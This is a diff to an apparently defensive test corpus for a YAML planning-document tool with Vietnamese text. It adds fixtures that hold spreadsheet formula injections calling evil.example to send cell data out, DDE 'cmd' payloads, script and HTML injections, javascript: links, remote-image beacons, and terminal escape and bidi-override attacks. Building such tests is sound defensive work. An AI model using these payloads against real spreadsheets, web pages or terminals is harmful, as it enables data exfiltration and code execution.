@@ -33,6 +33,32 @@ sections:
             due: Quý I/2024
 """
 
+INJECTION = """\
+plan:
+  title: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")'
+  year: 2024
+  agency: {name: '=1+1+WEBSERVICE("http://evil.example/")', place: '@SUM(1+1)*cmd|"/c calc"!A0'}
+officials:
+  vp-tk: {title: '+Công chức <b>Văn phòng</b>'}
+sections:
+  - id: "1"
+    title: '-2+3 <img src=x onerror=alert(1)>'
+    tasks:
+      - id: 1.a
+        title: '=HYPERLINK("http://evil.example/?d="&A1,"Mở") <script>alert(1)</script>'
+        lead: [vp-tk]
+        timeline: "\\tQuý I/2024 [bấm](javascript:alert(1))"
+        milestones:
+          - what: '=cmd|"/c calc"!A0 ![](http://evil.example/p.png)'
+            due: 2024-03-31
+            done: 2024-03-20
+            note: '[tải](http://evil.example/x) & <iframe src=//evil.example>'
+          - what: '@SUM(A1:A9) [x]: http://evil.example/'
+            due: 2024-06-30
+        notes:
+          - {date: 2024-03-05, text: "\\r=1+1 <a href=javascript:alert(1)>bấm</a>"}
+"""
+
 _KEEP_COMPOSED = {"\u0302", "\u0306", "\u031b"}  # circumflex, breve, horn: â ê ô ă ơ ư
 
 
@@ -137,6 +163,20 @@ def corpus() -> dict[str, bytes]:
         "colon-in-text.yaml": VALID.replace(
             "title: Ban hành kế hoạch", "title: Sản phẩm: kế hoạch"
         ).encode(),
+        # Terminal attacks: a C1 CSI (U+009B, like ESC [) typed raw or as an escape, and a
+        # right-to-left override that makes a title read differently from what it is.
+        "c1-csi.yaml": VALID.replace(
+            "Ban hành kế hoạch\n", "Ban hành\u009b2Jkế hoạch\n", 1
+        ).encode(),
+        "escaped-c1.yaml": VALID.replace(
+            "title: Ban hành kế hoạch", 'title: "Ban hành\\u009b2Jkế hoạch"'
+        ).encode(),
+        "bidi-override.yaml": VALID.replace(
+            "title: Ban hành kế hoạch", "title: Ban hành \u202ehcaoh ếk\u202c"
+        ).encode(),
+        # A valid plan whose text attacks what is made from it: spreadsheet formulas (OWASP
+        # formula injection) and HTML, script, links and remote images in Markdown.
+        "injection.yaml": INJECTION.encode(),
     }
 
 
